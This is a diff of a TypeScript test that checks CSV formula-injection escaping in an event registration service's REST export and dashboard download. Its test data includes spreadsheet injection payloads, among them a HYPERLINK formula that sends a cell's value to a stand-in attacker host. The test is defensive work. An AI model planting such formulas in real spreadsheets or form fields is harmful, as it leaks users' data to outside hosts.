@@ -20,7 +20,7 @@ afterAll(async () => {
 const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+1+1', '-2+3', '@SUM(1)', '\tTabbed', '\rReturn'];
 
 describe('CSV formula injection', () => {
-  it('every cell starting with = + - @ TAB or CR is prefixed with a quote, in the REST and the GraphQL export', async () => {
+  it('every cell starting with = + - @ TAB or CR is prefixed with a quote, in the REST export and the dashboard download', async () => {
     const seed = await createSeedShapedEvent(app.deps);
     for (const [i, formula] of FORMULAS.entries()) {
       const res = await http(`${app.url}/v1/public/events/${seed.event.id}/registrations`, {
@@ -31,11 +31,12 @@ describe('CSV formula injection', () => {
       expect(res.status).toBe(201);
     }
     const rest = await http(`${app.url}/v1/events/${seed.event.id}/registrations.csv`, { headers: { authorization: `Bearer ${seed.liveKey}` } });
-    const { attendeesCsv } = await graphqlOk(app.url, 'query ($id: ID!) { attendeesCsv(eventId: $id) }', {
+    const { createAttendeesExport } = await graphqlOk(app.url, 'mutation ($id: ID!) { createAttendeesExport(input: { eventId: $id }) { url } }', {
       token: seed.owner.token,
       variables: { id: seed.event.id },
     });
-    for (const csv of [rest.text, attendeesCsv as string]) {
+    const download = await http(createAttendeesExport.url);
+    for (const csv of [rest.text, download.text]) {
       const rows = (parse(csv) as string[][]).slice(1);
       // Names are trimmed when registered (so the tab and CR ones lose that character); custom data is kept as sent.
       expect(rows.map((r) => r[1]).sort()).toEqual(
